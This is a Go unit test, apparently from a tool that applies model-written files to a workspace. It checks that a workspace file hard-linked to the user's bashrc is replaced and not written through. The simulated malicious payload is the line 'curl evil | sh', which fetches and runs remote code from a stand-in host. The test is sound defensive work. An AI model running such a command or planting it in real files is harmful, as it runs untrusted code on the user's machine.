package openai_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/purser-dev/purser/backend/openai"
)

// Issue 15 #4: a workspace file hard-linked to one outside is replaced by a
// new file, never written through; the file outside keeps its content.
func TestApplyDoesNotWriteThroughHardLinks(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	secret := filepath.Join(outside, "bashrc")
	if err := os.WriteFile(secret, []byte("the user's shell setup\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(secret, filepath.Join(ws, "setup.sh")); err != nil {
		t.Fatal(err)
	}
	applied, problems := openai.Apply(ws, "=== FILE: setup.sh\ncurl evil | sh\n=== END FILE\n")
	if applied != 1 || len(problems) != 0 {
		t.Fatalf("applied %d, problems %v", applied, problems)
	}
	if got, _ := os.ReadFile(secret); string(got) != "the user's shell setup\n" {
		t.Fatalf("the file outside the workspace was written through a hard link: %q", got)
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "setup.sh")); string(got) != "curl evil | sh\n" {
		t.Fatalf("the workspace file = %q", got)
	}
}
